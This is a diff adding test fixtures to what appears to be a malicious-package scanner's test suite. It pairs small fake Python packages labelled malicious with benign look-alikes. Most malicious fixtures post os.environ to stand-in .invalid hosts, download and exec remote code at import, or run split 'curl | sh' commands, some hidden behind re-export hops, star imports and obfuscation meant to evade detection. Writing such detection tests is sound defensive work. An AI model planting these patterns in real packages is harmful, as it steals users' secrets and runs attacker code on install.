@@ -42,6 +42,129 @@ CASES = [
                  "def fetch(url, timeout=10):\n"
                  "    return compat.requests_.get(url, timeout=timeout).json()\n"),
          }, "benign", kind="wheel"),
+    # The package names itself absolutely: the same sibling, reached as `ev.compat`.
+    Case("network library in a sibling module, the package imported by its own name",
+         "self-import-from", {
+             "self_import_from/compat.py": "import requests as requests_\n",
+             "self_import_from/__init__.py": (
+                 "import os\nfrom self_import_from import compat\n\n"
+                 "compat.requests_.post('https://k.x.invalid/u', data=dict(os.environ))\n"),
+         }, "malicious", ("PV303",), kind="wheel"),
+    Case("network library in a sibling module, `import pkg.compat as compat`",
+         "self-import-as", {
+             "self_import_as/compat.py": "import requests as requests_\n",
+             "self_import_as/__init__.py": (
+                 "import os\nimport self_import_as.compat as compat\n\n"
+                 "compat.requests_.post('https://k.x.invalid/u', data=dict(os.environ))\n"),
+         }, "malicious", ("PV303",), kind="wheel"),
+    Case("network library re-exported by name through the package's own absolute name",
+         "self-import-name", {
+             "self_import_name/compat.py": (
+                 "from requests import (  # the client\n    post as send_,\n)\n"),
+             "self_import_name/__init__.py": (
+                 "import os\nfrom self_import_name.compat import send_\n\n"
+                 "send_('https://k.x.invalid/u', data=dict(os.environ))\n"),
+         }, "malicious", ("PV303",), kind="wheel"),
+    Case("benign look-alike: the package's own compat module reached absolutely, for a "
+         "client function", "self-import-client", {
+             "self_import_client/compat.py": "import requests as requests_\n",
+             "self_import_client/__init__.py": (
+                 "from self_import_client import compat\n\n"
+                 "SESSION = compat.requests_.Session()\n\n\n"
+                 "def fetch(url, timeout=10):\n"
+                 "    return SESSION.get(url, timeout=timeout).json()\n"),
+         }, "benign", kind="wheel"),
+    # A file that names no capability itself: the word is in the sibling that re-exports it.
+    Case("download and exec through names a sibling re-exports, at import",
+         "sibling-reexport-exec", {
+             "sibling_reexport_exec/_util.py": (
+                 "from urllib.request import urlopen as fetch\nfrom builtins import exec as run\n"),
+             "sibling_reexport_exec/__init__.py": (
+                 "from ._util import fetch, run\n\nrun(fetch('https://x.invalid/p').read())\n"),
+         }, "malicious", ("PV202",), kind="wheel"),
+    Case("environment posted through a sibling's `urlopen as post`, at import",
+         "sibling-reexport-post", {
+             "sibling_reexport_post/_net.py": "from urllib.request import urlopen as post\n",
+             "sibling_reexport_post/_env.py": (
+                 "import os\n\n\ndef snapshot():\n    return repr(dict(os.environ)).encode()\n"),
+             "sibling_reexport_post/__init__.py": (
+                 "from ._net import post\nfrom . import _env\n\n"
+                 "post('https://x.invalid/c', data=_env.snapshot())\n"),
+         }, "malicious", ("PV320",), kind="wheel"),
+    Case("split download command run through a sibling's `system as run`, at import",
+         "sibling-reexport-system", {
+             "sibling_reexport_system/_util.py": "from os import system as run\n",
+             "sibling_reexport_system/__init__.py": (
+                 "from ._util import run\n\nrun('cu' + 'rl -s https://x.invalid/i | s' + 'h')\n"),
+         }, "malicious", ("PV302",), kind="wheel"),
+    Case("evasion: one more hop (`_util` re-exports from `_base`, which imports os)",
+         "sibling-reexport-hop", {
+             "sibling_reexport_hop/_base.py": "from os import system\n\nrun = system\n",
+             "sibling_reexport_hop/_util.py": "from ._base import (\n    run,\n)\n",
+             "sibling_reexport_hop/__init__.py": (
+                 "from ._util import run\n\nrun('cu' + 'rl -s https://x.invalid/i | s' + 'h')\n"),
+         }, "malicious", ("PV302",), kind="wheel"),
+    Case("evasion: the hop named absolutely and aliased (`run = _base.run`), exec'd download",
+         "sibling-reexport-alias-hop", {
+             "sibling_reexport_alias_hop/_base.py": (
+                 "from urllib.request import urlopen as fetch\nfrom builtins import exec as run\n"),
+             "sibling_reexport_alias_hop/_util.py": (
+                 "from sibling_reexport_alias_hop import _base\n\n"
+                 "run = _base.run\nfetch = _base.fetch\n"),
+             "sibling_reexport_alias_hop/__init__.py": (
+                 "from ._util import fetch, run\n\nrun(fetch('https://x.invalid/p').read())\n"),
+         }, "malicious", ("PV202",), kind="wheel"),
+    Case("evasion: the sibling's import sits in a try block",
+         "sibling-reexport-try", {
+             "sibling_reexport_try/_util.py": (
+                 "try:\n    from os import system as run\nexcept ImportError:  # old Pythons\n"
+                 "    run = None\n"),
+             "sibling_reexport_try/__init__.py": (
+                 "from ._util import run\n\nrun('cu' + 'rl -s https://x.invalid/i | s' + 'h')\n"),
+         }, "malicious", ("PV302",), kind="wheel"),
+    Case("evasion: star imports all the way (`from ._util import *`, `from ._base import *`)",
+         "sibling-reexport-star", {
+             "sibling_reexport_star/_base.py": (
+                 "from urllib.request import urlopen as fetch\nfrom builtins import exec as run\n"),
+             "sibling_reexport_star/_util.py": "from ._base import *  # noqa\n",
+             "sibling_reexport_star/__init__.py": (
+                 "from ._util import *\n\nrun(fetch('https://x.invalid/p').read())\n"),
+         }, "malicious", ("PV202",), kind="wheel"),
+    Case("download and exec in setup.py through a root helper's re-exports", "setup-reexport-exec", {
+        "setup.py": ("from setuptools import setup\nfrom _build import fetch, run\n\n"
+                     "run(fetch('https://x.invalid/p').read())\n"
+                     "setup(name='setup-reexport-exec', version='1.0')\n"),
+        "_build.py": ("from urllib.request import urlopen as fetch\n"
+                      "from builtins import exec as run\n"),
+    }, "malicious", ("PV202",)),
+    Case("evasion: setup.py's helper package re-exports from a submodule, split command",
+         "setup-reexport-hop", {
+             "setup.py": ("from setuptools import setup\nfrom helpers import run\n\n"
+                          "run('cu' + 'rl -s https://x.invalid/i | s' + 'h')\n"
+                          "setup(name='setup-reexport-hop', version='1.0')\n"),
+             "helpers/__init__.py": "from .proc import run\n",
+             "helpers/proc.py": "from subprocess import getoutput as run\n",
+         }, "malicious", ("PV302",)),
+    Case("benign look-alike: `_compat.py` re-exports subprocess.run for a CLI helper",
+         "sibling-reexport-cli", {
+             "sibling_reexport_cli/_compat.py": "from subprocess import run\n",
+             "sibling_reexport_cli/__init__.py": (
+                 "from ._compat import run\n\n\ndef main():\n"
+                 "    run(['git', 'status', '--short'], check=True)\n"),
+         }, "benign", kind="wheel"),
+    Case("benign look-alike: `_compat.py` re-exports json.dumps, used at import",
+         "sibling-reexport-json", {
+             "sibling_reexport_json/_compat.py": "from json import dumps\n",
+             "sibling_reexport_json/__init__.py": (
+                 "from ._compat import dumps\n\nDEFAULTS = dumps({'retries': 3})\n"),
+         }, "benign", kind="wheel"),
+    Case("benign look-alike: setup.py runs cmake through a root helper's re-export",
+         "setup-reexport-cmake", {
+             "setup.py": ("from setuptools import setup\nfrom _build import run\n\n"
+                          "run(['cmake', '-S', '.', '-B', 'build'])\n"
+                          "setup(name='setup-reexport-cmake', version='1.0')\n"),
+             "_build.py": "from subprocess import check_call as run\n",
+         }, "benign"),
     _wheel("getattr(__import__(chr(111)+chr(115)), 'sy'+'stem')", "names-chr-getattr",
            "getattr(__import__(chr(111) + chr(115)), 'sy' + 'stem')('echo pwned')\n",
            ("PV211",)),
